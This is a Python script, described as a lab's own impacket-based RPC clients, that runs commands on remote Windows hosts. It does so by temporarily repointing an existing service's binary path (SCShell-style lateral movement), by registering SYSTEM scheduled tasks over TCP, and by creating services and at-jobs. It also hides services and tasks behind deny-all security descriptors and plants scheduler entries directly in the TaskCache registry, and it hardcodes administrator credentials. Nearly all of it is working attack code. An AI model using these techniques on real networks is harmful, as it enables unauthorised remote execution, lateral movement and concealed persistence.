#!/usr/bin/python3
"""The lab's own clients, built on impacket's RPC layer, for what its example
tools do not do:

  change-service TARGET NAME NEWPATH
      \\pipe\\svcctl: open an existing service, read its configuration, point
      its binary path at NEWPATH (ChangeServiceConfigW), start it, put the old
      path back (the "fileless" lateral movement of SCShell and
      PCAP-ATTACK's ChangeServiceConfigA)
  epm-task TARGET TASKNAME COMMAND ARGS [--auth-level L] [--max-frag N]
      ept_map for ITaskSchedulerService over ncacn_ip_tcp on TARGET:135, then
      to the port it named: SchRpcRegisterTask, SchRpcRun, SchRpcDelete
      (schtasks /s over TCP)
  epm-service TARGET NAME BINPATH [--auth-level L] [--kerberos KDC]
      (--kerberos, also for epm-task: a ticket from the lab's KDC for
      host/TARGET, DCE/RPC Kerberos inside SPNEGO instead of NTLM)
  epm-lsa TARGET
      ept_map for lsarpc (a real Samba endpoint) on TARGET:135, then to its
      dynamic port with packet privacy: LsarOpenPolicy2, LsarClose
  at-job TARGET COMMAND
      \\pipe\\atsvc, ATSvc: NetrJobAdd, NetrJobEnum, NetrJobDel (at.exe)

Credentials: LAB\\Administrator, password Passw0rd! (the lab's account; in the
lab's Kerberos realm LAB.EXAMPLE the same name and password).
"""

import argparse
import struct
import sys

from impacket.dcerpc.v5 import atsvc, epm, lsad, rrp, scmr, transport, tsch
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import (RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_CONNECT,
                                      RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException)

USER, PASSWORD, DOMAIN, REALM = "Administrator", "Passw0rd!", "LAB", "LAB.EXAMPLE"

TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Author>LAB\\Administrator</Author>
  </RegistrationInfo>
  <Triggers>
    <TimeTrigger>
      <StartBoundary>2024-05-21T10:00:00</StartBoundary>
      <Enabled>true</Enabled>
    </TimeTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Enabled>true</Enabled>
    <Hidden>false</Hidden>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>%s</Command>
      <Arguments>%s</Arguments>
    </Exec>
  </Actions>
</Task>
"""


def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def smb_dce(target, pipe, level=None):
    t = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\%s]" % (target, pipe))
    t.set_credentials(USER, PASSWORD, DOMAIN, "", "")
    dce = t.get_dce_rpc()
    if level is not None:
        dce.set_credentials(*t.get_credentials())
        dce.set_auth_level(level)
    dce.connect()
    return dce


def change_service(a):
    dce = smb_dce(a.target, "svcctl")
    dce.bind(scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    svc = scmr.hROpenServiceW(dce, scm, a.name + "\0")["lpServiceHandle"]
    old = scmr.hRQueryServiceConfigW(dce, svc)["lpServiceConfig"]["lpBinaryPathName"]
    print("%s: %s" % (a.name, old))
    scmr.hRChangeServiceConfigW(dce, svc, lpBinaryPathName=a.path + "\0")
    try:
        scmr.hRStartServiceW(dce, svc)
    except DCERPCException as e:
        print("start: %s" % e)
    scmr.hRChangeServiceConfigW(dce, svc, lpBinaryPathName=old)
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)
    dce.disconnect()


def ept_map(target, iface):
    port = epm.hept_map(target, iface, protocol="ncacn_ip_tcp")
    print("ept_map %s: %s" % (target, port))
    return port


def tcp_dce(binding, level, kdc=None):
    t = transport.DCERPCTransportFactory(binding)
    t.set_credentials(USER, PASSWORD, REALM if kdc else DOMAIN, "", "")
    if kdc:
        t.set_kerberos(True, kdcHost=kdc)
    dce = t.get_dce_rpc()
    dce.set_credentials(*t.get_credentials())
    if kdc:
        dce.set_auth_type(RPC_C_AUTHN_GSS_NEGOTIATE)
    dce.set_auth_level(level)
    dce.connect()
    return dce


def epm_task(a):
    binding = ept_map(a.target, tsch.MSRPC_UUID_TSCHS)
    dce = tcp_dce(binding, a.auth_level, a.kerberos)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    if a.max_frag:
        dce.set_max_fragment_size(a.max_frag)  # requests in fragments, each sealed on its own
    xml = TASK_XML % (esc(a.command), esc(a.arguments))
    tsch.hSchRpcRegisterTask(dce, a.task, xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcRun(dce, a.task)
    tsch.hSchRpcDelete(dce, a.task)
    dce.disconnect()


def epm_service(a):
    """A service created, started and deleted over ncacn_ip_tcp (the port ept_map names)."""
    binding = ept_map(a.target, scmr.MSRPC_UUID_SCMR)
    dce = tcp_dce(binding, a.auth_level, a.kerberos)
    dce.bind(scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    svc = scmr.hRCreateServiceW(dce, scm, a.name + "\0", a.name + "\0",
                                lpBinaryPathName=a.path + "\0")["lpServiceHandle"]
    try:
        scmr.hRStartServiceW(dce, svc)
    except DCERPCException as e:
        print("RStartServiceW: %s" % e)
    scmr.hRDeleteService(dce, svc)
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)
    dce.disconnect()


def epm_lsa(a):
    binding = ept_map(a.target, lsad.MSRPC_UUID_LSAD)
    dce = tcp_dce(binding, RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.bind(lsad.MSRPC_UUID_LSAD)
    try:
        pol = lsad.hLsarOpenPolicy2(dce, lsad.POLICY_LOOKUP_NAMES)["PolicyHandle"]
        lsad.hLsarClose(dce, pol)
    except DCERPCException as e:
        print("LsarOpenPolicy2: %s (Samba refuses LSA on ncacn_ip_tcp)" % e)
    dce.disconnect()


def at_job(a):
    dce = smb_dce(a.target, "atsvc")
    dce.bind(atsvc.MSRPC_UUID_ATSVC)
    info = atsvc.AT_INFO()
    info["JobTime"] = 10 * 3600 * 1000  # 10:00
    info["DaysOfMonth"] = 0
    info["DaysOfWeek"] = 0
    info["Flags"] = 0
    info["Command"] = a.command + "\0"
    job = atsvc.hNetrJobAdd(dce, NULL, info)["pJobId"]
    print("job %d" % job)
    atsvc.hNetrJobEnum(dce)
    atsvc.hNetrJobDel(dce, NULL, job, job)
    dce.disconnect()


class SetServiceObjectSecurity(NDRCALL):
    """RSetServiceObjectSecurity as MS-SCMR's IDL has it: the descriptor a [ref] conformant
    array. impacket 0.10's scmr.RSetServiceObjectSecurity sends a referent id before it (an
    LPBYTE), and its hRSetServiceObjectSecurity never sets the bytes at all."""
    opnum = 5
    structure = (
        ("hService", scmr.SC_RPC_HANDLE),
        ("dwSecurityInformation", scmr.SECURITY_INFORMATION),
        ("lpSecurityDescriptor", scmr.BYTE_ARRAY),
        ("cbBufSize", scmr.DWORD),
    )


class SetServiceObjectSecurityResponse(NDRCALL):
    structure = (("ErrorCode", scmr.DWORD),)


def sd_hide_service(a):
    """sc sdset's trick over svcctl: the service's DACL read, replaced by one that denies
    query to users, services and administrators, read again."""
    from sd_build import build
    sd = build(a.sddl)
    dce = smb_dce(a.target, "svcctl")
    dce.bind(scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    svc = scmr.hROpenServiceW(dce, scm, a.name + "\0")["lpServiceHandle"]

    def attempt(what, fn):  # a refusal is reported, and the client goes on as sc would not
        try:
            fn()
        except DCERPCException as e:
            print("%s: %s" % (what, e))

    attempt("RQueryServiceObjectSecurity",
            lambda: scmr.hRQueryServiceObjectSecurity(dce, svc, scmr.DACL_SECURITY_INFORMATION))
    req = SetServiceObjectSecurity()
    req["hService"] = svc
    req["dwSecurityInformation"] = scmr.DACL_SECURITY_INFORMATION
    req["lpSecurityDescriptor"] = list(sd)
    req["cbBufSize"] = len(sd)
    attempt("RSetServiceObjectSecurity", lambda: dce.request(req))
    print("%s: %s (%d bytes)" % (a.name, a.sddl, len(sd)))
    attempt("RQueryServiceObjectSecurity",
            lambda: scmr.hRQueryServiceObjectSecurity(dce, svc, scmr.DACL_SECURITY_INFORMATION))
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)
    dce.disconnect()


def sd_hide_task(a):
    """A task registered with an SDDL that denies reading it, then its security set again
    by SchRpcSetSecurity, then deleted."""
    dce = smb_dce(a.target, "atsvc")
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    xml = TASK_XML % (esc(a.command), esc(a.arguments))
    tsch.hSchRpcRegisterTask(dce, a.task, xml, tsch.TASK_CREATE, a.sddl, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcSetSecurity(dce, a.task, a.set_sddl, 0)
    tsch.hSchRpcDelete(dce, a.task)
    dce.disconnect()


def sd_key(a):
    """BaseRegSetKeySecurity on a key made for it (HKLM\\<subkey>)."""
    from sd_build import build
    sd = build(a.sddl)
    dce = smb_dce(a.target, "winreg")
    dce.bind(rrp.MSRPC_UUID_RRP)
    hklm = rrp.hOpenLocalMachine(dce)["phKey"]
    key = rrp.hBaseRegCreateKey(dce, hklm, a.subkey + "\0")["phkResult"]
    req = rrp.BaseRegSetKeySecurity()
    req["hKey"] = key
    req["SecurityInformation"] = scmr.DACL_SECURITY_INFORMATION
    req["pRpcSecurityDescriptor"]["lpSecurityDescriptor"] = list(sd)
    req["pRpcSecurityDescriptor"]["cbInSecurityDescriptor"] = len(sd)
    req["pRpcSecurityDescriptor"]["cbOutSecurityDescriptor"] = len(sd)
    dce.request(req)
    print("%s: %s" % (a.subkey, a.sddl))
    rrp.hBaseRegCloseKey(dce, key)
    rrp.hBaseRegCloseKey(dce, hklm)
    dce.disconnect()


def actions_blob(command, arguments, workdir="", context="LocalSystem", action_id=""):
    """A TaskCache\\Tasks\\{GUID} Actions value, version 3, one exec action: the 16-bit
    version, the context, then the action (kind 0x6666, its id, command, arguments,
    working directory, 16-bit flags); each string a 32-bit byte count and UTF-16LE."""
    def bstr(t):
        b = t.encode("utf-16-le")
        return struct.pack("<I", len(b)) + b
    return (struct.pack("<H", 3) + bstr(context) + struct.pack("<H", 0x6666) + bstr(action_id)
            + bstr(command) + bstr(arguments) + bstr(workdir) + struct.pack("<H", 0))


def task_actions(a):
    """A task made the way the scheduler records one, without its API: the TaskCache\\Tasks
    key of a GUID, its Path, and its Actions blob (REG_BINARY)."""
    dce = smb_dce(a.target, "winreg")
    dce.bind(rrp.MSRPC_UUID_RRP)
    hklm = rrp.hOpenLocalMachine(dce)["phKey"]
    key = rrp.hBaseRegCreateKey(dce, hklm, a.subkey + "\0")["phkResult"]
    rrp.hBaseRegSetValue(dce, key, "Path\0", rrp.REG_SZ, a.path + "\0")
    blob = actions_blob(a.command, a.arguments)
    rrp.hBaseRegSetValue(dce, key, "Actions\0", rrp.REG_BINARY, blob)
    print("%s: Actions %d bytes, %s %s" % (a.subkey, len(blob), a.command, a.arguments))
    rrp.hBaseRegCloseKey(dce, key)
    rrp.hBaseRegCloseKey(dce, hklm)
    dce.disconnect()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("change-service")
    p.add_argument("target")
    p.add_argument("name")
    p.add_argument("path")
    p.set_defaults(fn=change_service)
    p = sub.add_parser("epm-task")
    p.add_argument("target")
    p.add_argument("task")
    p.add_argument("command")
    p.add_argument("arguments")
    p.add_argument("--auth-level", type=int, default=RPC_C_AUTHN_LEVEL_CONNECT)
    p.add_argument("--max-frag", type=int, default=0)
    p.add_argument("--kerberos", metavar="KDC")
    p.set_defaults(fn=epm_task)
    p = sub.add_parser("epm-service")
    p.add_argument("target")
    p.add_argument("name")
    p.add_argument("path")
    p.add_argument("--auth-level", type=int, default=RPC_C_AUTHN_LEVEL_CONNECT)
    p.add_argument("--kerberos", metavar="KDC")
    p.set_defaults(fn=epm_service)
    p = sub.add_parser("epm-lsa")
    p.add_argument("target")
    p.set_defaults(fn=epm_lsa)
    p = sub.add_parser("at-job")
    p.add_argument("target")
    p.add_argument("command")
    p.set_defaults(fn=at_job)
    p = sub.add_parser("sd-hide-service")
    p.add_argument("target")
    p.add_argument("name")
    p.add_argument("sddl")
    p.set_defaults(fn=sd_hide_service)
    p = sub.add_parser("sd-hide-task")
    p.add_argument("target")
    p.add_argument("task")
    p.add_argument("command")
    p.add_argument("arguments")
    p.add_argument("sddl")
    p.add_argument("set_sddl")
    p.set_defaults(fn=sd_hide_task)
    p = sub.add_parser("sd-key")
    p.add_argument("target")
    p.add_argument("subkey")
    p.add_argument("sddl")
    p.set_defaults(fn=sd_key)
    p = sub.add_parser("task-actions")
    for n in ("target", "subkey", "path", "command", "arguments"):
        p.add_argument(n)
    p.set_defaults(fn=task_actions)
    a = ap.parse_args()
    a.fn(a)


if __name__ == "__main__":
    sys.exit(main())
